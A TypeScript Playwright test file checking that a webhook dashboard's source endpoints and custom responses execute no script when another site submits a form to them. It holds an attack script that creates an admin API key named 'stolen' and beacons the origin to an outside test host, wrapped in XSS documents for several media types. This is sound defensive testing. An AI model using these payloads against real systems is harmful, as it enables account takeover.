/** How sources respond to a form that another site submits, in Chromium with a logged-in administrator. */
import assert from "node:assert/strict";
import { after, before, suite, test } from "node:test";
import type { Page } from "playwright-core";
import { type Receiver, startReceiver } from "../peers/receiver.ts";
import { DashboardWorld } from "./dashboard-world.fixture.ts";

const attack = (other: string): string =>
  `fetch("/v1/api-keys", { method: "POST", headers: { "content-type": "application/json", "x-posthorn-dashboard": "1" },
     body: JSON.stringify({ name: "stolen", role: "admin" }) }).catch(() => 0);
   fetch("${other}/ran?origin=" + encodeURIComponent(self.origin), { mode: "no-cors" });`;

/** For each media type, a document that runs a script. */
const documents: readonly (readonly [type: string, body: (script: string) => string])[] = [
  ["text/html", (script) => `<!doctype html><title>answer</title><script>${script}</script>`],
  [
    "Text/HTML; charset=utf-8",
    (script) => `<img src="data:," onerror='${script}'><script>${script}</script>`,
  ],
  [
    "image/svg+xml",
    (script) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`,
  ],
  [
    "application/xml",
    (script) => `<a><s:script xmlns:s="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></s:script></a>`,
  ],
  [
    "text/xml;charset=UTF-8",
    (script) => `<a><s:script xmlns:s="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></s:script></a>`,
  ],
  [
    "application/xhtml+xml",
    (script) =>
      `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${script}]]></script></body></html>`,
  ],
];

suite("responses of sources in a browser", () => {
  let world: DashboardWorld;
  /** The other site. Its page contains the form, and the script reports to it. */
  let other: Receiver;
  let address = "";

  before(async () => {
    [world, other] = await Promise.all([DashboardWorld.open(), startReceiver({ hostname: "localhost" })]);
    other.script(({ path: url }) =>
      url.startsWith("/form?")
        ? {
            headers: { "content-type": "text/html" },
            body: `<form method="post" enctype="text/plain" action="${new URLSearchParams(url.slice(6)).get("to")}">
              <input name="n" value="${new URLSearchParams(url.slice(6)).get("n")}"><button>send</button></form>`,
          }
        : { status: 204 },
    );
  });
  after(async () => {
    await world?.close();
    await other?.close();
  });

  const created = async (path: string, body: object): Promise<Readonly<Record<string, unknown>>> => {
    const made = await world.server.call("POST", path, body);
    assert.equal(made.status, 201, JSON.stringify(made.body));
    return made.body as Readonly<Record<string, unknown>>;
  };
  const change = async (id: string, body: object): Promise<void> => {
    const changed = await world.server.call("PATCH", `/v1/sources/${id}`, body);
    assert.equal(changed.status, 200, JSON.stringify(changed.body));
  };

  /** Clicks on a page of the other site. Resolves when the response has arrived, as a download or as a document. */
  const submit = async (page: Page, to: string, n: string): Promise<"download" | "document"> => {
    await page.goto(`${other.origin}/form?${new URLSearchParams({ to, n }).toString()}`);
    const download = page.waitForEvent("download").then(() => "download" as const);
    const loaded = page
      .waitForEvent("load", () => !page.url().startsWith(other.origin))
      .then(() => "document" as const);
    for (const waiting of [download, loaded]) waiting.catch(() => undefined);
    await page.getByRole("button").click();
    return Promise.race([download, loaded]);
  };

  const assertNothingRan = async (what: string): Promise<void> => {
    const ran = other.requests.filter(({ path: url }) => url.startsWith("/ran"));
    assert.deepEqual(
      ran.map(({ path: url }) => url),
      [],
      what,
    );
    const keys = JSON.stringify((await world.server.call("GET", "/v1/api-keys")).body);
    assert.ok(!keys.includes("stolen"), `${what}: a script created an API key`);
  };

  test("HTML, SVG and XML from receivers and custom responses run no script and reach no API", async () => {
    const { body: description } = await world.server.call("GET", "/service-description");
    const source = await created("/v1/sources", {
      name: "shop",
      party: "shop",
      verification: { type: "none" },
    });
    const id = String(source["source_id"]);
    address = String(source["url"]);
    const hook = { url: world.receiver.url("/hook"), events: ["relayed"] };
    const webhook = await created("/v1/webhooks", { ...hook, profile: "event-delivery", bearer_token: "t" });
    await created("/v1/connections", { source_id: id, webhook_id: webhook["id"] });
    const script = attack(other.origin);
    const page = await world.context.newPage();
    /** Simulates a browser that ignores Content-Disposition. The sandbox alone must prevent the attack. */
    const shown = await world.context.newPage();
    await shown.route(`${world.server.url}/**`, async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      delete headers["content-disposition"];
      await route.fulfill({ response, headers });
    });
    let n = 0;
    const tryAll = async (to: string, type: string): Promise<void> => {
      const message = `message ${(n += 1)}`;
      for (const time of ["first", "repeated"]) {
        assert.equal(await submit(page, to, message), "download", `${time} ${type}`);
        assert.equal(await submit(shown, to, message), "document", `${time} ${type}`);
        assert.equal(await shown.evaluate("self.origin"), "null", "the document has no origin");
        await assertNothingRan(`${time} ${type} of ${to}`);
      }
    };
    for (const [type, body] of documents) {
      world.receiver.script(() => ({ headers: { "content-type": type }, body: body(script) }));
      for (const to of [address, `${world.server.url}/_webhooks/shop`]) await tryAll(to, type);
    }
    const version = (description as { readonly version: string }).version;
    const acknowledged = await world.server.call("POST", `/v1/sources/${id}/acknowledge`, { version });
    assert.equal(acknowledged.status, 200);
    for (const [type, body] of documents) {
      const custom = { status: 200, content_type: type, body: body(script) };
      await change(id, { mode: "store_and_forward", custom_response: custom });
      await tryAll(address, `custom response ${type}`);
    }
  });
});
